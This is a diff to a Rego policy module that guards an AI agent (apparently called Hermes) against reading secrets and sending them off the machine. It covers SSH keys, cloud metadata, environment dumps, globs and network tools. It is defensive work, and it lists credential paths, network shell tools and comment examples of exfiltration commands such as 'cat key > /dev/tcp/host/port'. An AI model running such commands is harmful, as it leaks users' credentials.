@@ -2,11 +2,13 @@
 # title: Secrets
 # description: |
 #   Secret material: reading it asks (SSH and GPG keys, cloud credentials, .env files, token
-#   files, /proc/*/environ, keychains, browser profiles, password stores), however the path is
-#   spelled and by whatever tool; secret-shaped strings in anything that leaves the machine
-#   block; and once secret material was read in the session, outbound calls that carry data
-#   block, or ask when the user asked for that very send (a grant names the destination, or
-#   the task authorizes the call's classes).
+#   files, Hermes' credential stores, /proc/*/environ and environment dumps, cloud instance
+#   metadata, keychains, browser profiles, password stores), however the path is spelled, by
+#   whatever tool, through a glob or a recursive read of a directory above it; secret-shaped
+#   strings in anything that leaves the machine block, and so does reading secret material and
+#   sending or serving it in the same call; and once secret material was read in the session,
+#   outbound calls that carry data block, or ask when the user asked for that very send (a
+#   grant names the destination, or the task authorizes the call's classes).
 # schemas:
 #   - input: schema.input
 #   - data.tasks: schema.tasks
@@ -14,8 +16,11 @@ package opafence.guards.secrets
 
 import data.opafence.classify
 import data.opafence.guards.common
+import data.opafence.guards.reach
 import data.opafence.guards.secrets.env_template_suffixes
+import data.opafence.guards.secrets.hermes_secret_files
 import data.opafence.guards.secrets.home_secret_dirs
+import data.opafence.guards.secrets.metadata_hosts
 import data.opafence.guards.secrets.secret_commands
 import data.opafence.guards.secrets.secret_names
 import data.opafence.guards.secrets.secret_suffixes
@@ -39,7 +44,25 @@ secret_norm(np) if {
 	not ssh_public(np)
 }
 
-secret_norm(np) if common.in_table(np, system_secret_paths)
+secret_norm(np) if {
+	common.in_table(np, system_secret_paths)
+	not ssh_public(np)
+}
+
+# Another user's home (`/home/bob/.ssh/deploy_key`, `/root/.aws/credentials`, a glob such as
+# `/home/*/.aws/credentials`).
+secret_norm(np) if {
+	rel := other_home_relative(np)
+	some x in common.prefixes(rel)
+	x in home_secret_dirs
+	not ssh_public(np)
+}
+
+# Hermes' own credential stores (auth.json, OAuth and MCP tokens).
+secret_norm(np) if {
+	some x in common.prefixes(hermes_relative(np))
+	x in hermes_secret_files
+}
 
 secret_norm(np) if regex.replace(np, `^.*/`, "") in secret_names
 
@@ -53,16 +76,67 @@ secret_norm(np) if env_file(regex.replace(np, `^.*/`, ""))
 
 secret_norm(np) if regex.match(`^/proc/[^/]+/(task/[^/]+/)?environ$`, np)
 
-# Public halves and bookkeeping in ~/.ssh are not secret.
+# Public halves and bookkeeping in any .ssh directory are not secret.
 ssh_public(np) if {
-	startswith(common.home_relative(np), ".ssh/")
+	contains(np, "/.ssh/")
 	endswith(np, ".pub")
 }
 
 ssh_public(np) if {
-	startswith(common.home_relative(np), ".ssh/")
+	contains(np, "/.ssh/")
 	regex.replace(np, `^.*/`, "") in ssh_public_names
 }
+
+other_home_relative(np) := m[0][1] if {
+	m := regex.find_all_string_submatch_n(`^/(?:root|home/[^/]+|users/[^/]+)/(.+)$`, np, 1)
+	count(m) > 0
+}
+
+hermes_home := common.norm(input.host.hermes_home)
+
+hermes_relative(np) := substring(np, count(hermes_home) + 1, -1) if {
+	hermes_home != ""
+	startswith(np, concat("", [hermes_home, "/"]))
+}
+
+# --- globs and recursive reads ---------------------------------------------------------------
+
+# METADATA
+# title: secret_roots
+# description: >-
+#   The places secret material lives, as normalized absolute paths: the home's secret
+#   directories and files, the system's, and Hermes' credential stores. A glob that could match
+#   one, or a recursive read of a directory above one, reads it.
+secret_roots := ({concat("/", [common.home, d]) | common.home != ""; some d in home_secret_dirs} | {d |
+	some d in system_secret_paths
+}) | {concat("/", [hermes_home, f]) | hermes_home != ""; some f in hermes_secret_files}
+
+# A glob whose last component could name a secret file (`id_*`, `*.pem`, `.env*`, `.n?trc`),
+# unless it matches any ordinary name as well (`*`, `*.json`, `.*`): then the directory decides.
+secret_glob(np) if {
+	not ssh_public(np)
+	some root in secret_roots
+	reach.glob_reaches(np, root, false)
+}
+
+secret_glob(np) if {
+	last := regex.replace(np, `^.*/`, "")
+	reach.globby(last)
+	some sample in secret_samples
+	reach.component_matches(last, sample)
+	not general_glob(last)
+}
+
+secret_samples := ({n | some n in secret_names} | {concat("", ["x", s]) | some s in secret_suffixes}) | {
+	".env", ".env.local", ".env.production", "prod.env",
+}
+
+general_glob(g) if {
+	some n in ordinary_samples
+	reach.component_matches(g, n)
+}
+
+ordinary_samples := {"zq", "zq.zq", ".zq", ".zq.zq", "zq.json", "zq.yaml", "zq.yml", "zq.db", "zq.sqlite", "zq.txt"}
 
 # `.env`, `.env.local`, `.env.production`, `prod.env`; not `.env.example`, `.env.sample`, `.env.template`.
 env_file(b) if b == ".env"
@@ -82,6 +156,60 @@ env_file(b) if {
 # --- reading secret material: ask ----------------------------------------------------------------
 
 # METADATA
+# title: secret_reads
+# description: >-
+#   Every read of secret material, as {"path", "how"}: a file that holds it (also through a glob
+#   that could name it), or a directory above it read recursively. A key given to ssh, scp,
+#   sftp, ssh-add or ssh-keygen to authenticate or fingerprint with is used, not read.
+secret_reads contains r if {
+	some r in reach.reads
+	not identity_only(r)
+	secret_read_path(r.path)
+}
+
+secret_reads contains r if {
+	some r in reach.recursive_reads
+	recursive_secret(r.path)
+}
+
+secret_read_path(p) if secret_path(p)
+
+secret_read_path(p) if {
+	reach.globby(p)
+	secret_glob(common.norm(p))
+}
+
+recursive_secret(p) if secret_read_path(p)
+
+recursive_secret(p) if {
+	some root in secret_roots
+	reach.reaches(p, root, true)
+}
+
+identity_cmds := {"ssh", "scp", "sftp", "ssh-add", "ssh-keygen", "ssh-copy-id"}
+
+# The path is only the key a command authenticates with (`ssh -i KEY`, `ssh-add KEY`,
+# `ssh-keygen -l -f KEY`), not a file it shows or sends.
+identity_only(r) if {
+	r.how in identity_cmds
+	every c in [c | some c in common.commands; common.cmd_name(c) == r.how] {
+		not sends_file(c, r.path)
+	}
+}
+
+sends_file(c, p) if {
+	not common.cmd_name(c) in {"ssh-add", "ssh-keygen"}
+	named := count([i | some i, _ in c.operands; common.operand_path(c, i) == p])
+	keys := count([i |
+		some i, a in c.argv
+		a in {"-i", "-f"}
+		i + 1 < count(c.argv)
+		common.value_path(c, c.argv[i + 1]) == p
+	])
+	named > keys
+}
+
+# METADATA
 # title: SECRET_READ
 # description: >-
 #   This reads {{.path}}, which holds secret material (keys, credentials or tokens); the user
@@ -90,9 +218,27 @@ env_file(b) if {
 #   code: SECRET_READ
 #   fix: Approve it only if the task really needs the secret; prefer reading a template such as .env.example.
 ask contains reason.render(rego.metadata.rule(), {"path": r.path}) if {
-	some r in common.reads
-	secret_path(r.path)
+	some r in secret_reads
 }
+
+# METADATA
+# title: SECRET_METADATA
+# description: >-
+#   This fetches {{.host}}, a cloud instance-metadata endpoint that hands out the machine's
+#   credentials; the user is asked first, and outbound calls later in the session are held to a
+#   stricter rule.
+# custom:
+#   code: SECRET_READ
+#   fix: Approve it only if the task really needs the instance's metadata or credentials.
+ask contains reason.render(rego.metadata.rule(), {"host": u.host}) if {
+	some u in input.facts.urls
+	metadata_host(lower(u.host))
+}
+
+metadata_host(h) if h in metadata_hosts
+
+# DNS names that embed the metadata address (`169.254.169.254.nip.io`, `169-254-169-254.sslip.io`, hex).
+metadata_host(h) if regex.match(`(^|[.-])(169[.-]254[.-]169[.-]254|a9fea9fe)([.-]|$)`, h)
 
 # METADATA
 # title: SECRET_COMMAND
@@ -112,11 +258,36 @@ secret_command(c) if {
 	concat(" ", array.concat([common.cmd_name(c)], [lower(a) | some a in array.slice(c.argv, 1, k)])) in secret_commands
 }
 
-# A bare `env` / `printenv` dumps every variable, API keys included.
+# A bare `env` / `printenv` / `set` / `export -p` / `declare -x` dumps every variable, API keys
+# included (`env -0`, `printenv -0` too).
 secret_command(c) if {
-	common.cmd_name(c) in {"env", "printenv", "export"}
+	common.cmd_name(c) in {"env", "printenv"}
 	count(c.operands) == 0
-	count(c.flags) == 0
+	every f in c.flags {
+		f in {"-0", "--null"}
+	}
+}
+
+secret_command(c) if {
+	common.cmd_name(c) in {"set", "export"}
+	count(c.operands) == 0
+	every f in c.flags {
+		f == "-p"
+	}
+}
+
+secret_command(c) if {
+	common.cmd_name(c) in {"declare", "typeset", "local", "readonly"}
+	count(c.operands) == 0
+	not common.has_flag(c, "-f")
+	not common.has_flag(c, "-F")
+}
+
+# BSD-style `ps e`, `ps eww`, `ps auxe`: every process with its environment.
+secret_command(c) if {
+	common.cmd_name(c) == "ps"
+	some o in c.operands
+	regex.match(`^[a-zA-Z]*e[a-zA-Z]*$`, o)
 }
 
 # `printenv GITHUB_TOKEN`, `echo $OPENAI_API_KEY`.
@@ -144,7 +315,8 @@ outbound_tools := {
 network_cmds := {
 	"curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "rsync", "ftp", "telnet",
 	"http", "https", "xh", "httpie", "gh", "aws", "gcloud", "gsutil", "az", "s3cmd", "rclone",
-	"mail", "mailx", "sendmail", "mutt", "dig", "nslookup", "host", "drill", "whois",
+	"mail", "mailx", "sendmail", "mutt", "dig", "nslookup", "host", "drill", "whois", "websocat", "wscat",
+	"grpcurl", "lftp", "tftp", "smbclient",
 }
 
 git_network := {"push", "clone", "fetch", "pull", "ls-remote", "submodule", "send-email", "request-pull"}
@@ -170,7 +342,28 @@ outbound if {
 	not loopback_only
 }
 
-network_command(c) if common.cmd_name(c) in network_cmds
+network_command(c) if {
+	common.cmd_name(c) in network_cmds
+	not common.cmd_name(c) in remote_copy_cmds
+}
+
+# rsync and scp copy locally too: they reach the network when an operand names a host.
+remote_copy_cmds := {"rsync", "scp"}
+
+network_command(c) if {
+	common.cmd_name(c) in remote_copy_cmds
+	some o in c.operands
+	remote_operand(o)
+}
+
+remote_operand(o) if regex.match(`^(rsync|scp|sftp|ssh)://`, lower(o))
+
+remote_operand(o) if regex.match(`^[^/]*[^/\\]:`, o)
+
+network_command(c) if {
+	common.cmd_name(c) == "openssl"
+	lower(c.operands[0]) in {"s_client", "s_time"}
+}
 
 network_command(c) if {
 	common.cmd_name(c) == "git"
@@ -218,10 +411,23 @@ credential_url(u) if u.secret_like == true
 #   code: SECRET_EGRESS
 #   fix: Never send secret files anywhere; if the user really wants this, they name the exact command.
 deny contains reason.render(rego.metadata.rule(), {"path": r.path}) if {
-	some r in common.reads
-	secret_path(r.path)
+	some r in secret_reads
 	outbound
 	carries_data
+	not exact_command_granted
+}
+
+# METADATA
+# title: SECRET_SERVE
+# description: >-
+#   This serves {{.path}} over the network, and secret material lies in it or below it;
+#   anyone who can reach the port can read it.
+# custom:
+#   code: SECRET_EGRESS
+#   fix: Serve only the directory that is meant to be public (for example `-d docs`), never home or a key directory.
+deny contains reason.render(rego.metadata.rule(), {"path": p}) if {
+	some p in reach.served_dirs
+	recursive_secret(p)
 	not exact_command_granted
 }
 
@@ -281,6 +487,36 @@ url_payload(u) if regex.match(`[A-Za-z0-9+/=_\-]{32,}`, u.path)
 command_sends(c) if {
 	some f in data_flags
 	common.has_flag(c, f)
+}
+
+# `cat key > /dev/tcp/host/port`, `exec 3<>/dev/tcp/host/port`: bash's network redirections.
+carries_data if {
+	some p in input.facts.paths
+	regex.match(`^/dev/(tcp|udp)/`, p.path)
+}
+
+# A network command given the output of another command (`curl https://x/$(cat ~/.netrc)`,
+# `wget --header="X: $(cat key)"`).
+command_sends(c) if {
+	c.dynamic == true
+	some d in common.commands
+	d.context in {"command_substitution", "process_substitution"}
+}
+
+# httpie and xh: a method that sends, or request items (`k=v`, `k:=json`, `@file`, `k@file`).
+command_sends(c) if {
+	common.cmd_name(c) in {"http", "https", "xh", "xhs", "httpie"}
+	some o in c.operands
+	httpie_sends(o)
+}
+
+httpie_sends(o) if upper(o) in {"POST", "PUT", "PATCH"}
+
+httpie_sends(o) if regex.match(`^@|^[^:/=@]+(=|:=|@|=@|:=@)`, o)
+
+command_sends(c) if {
+	common.cmd_name(c) == "openssl"
+	network_command(c)
 }
 
 command_sends(c) if {
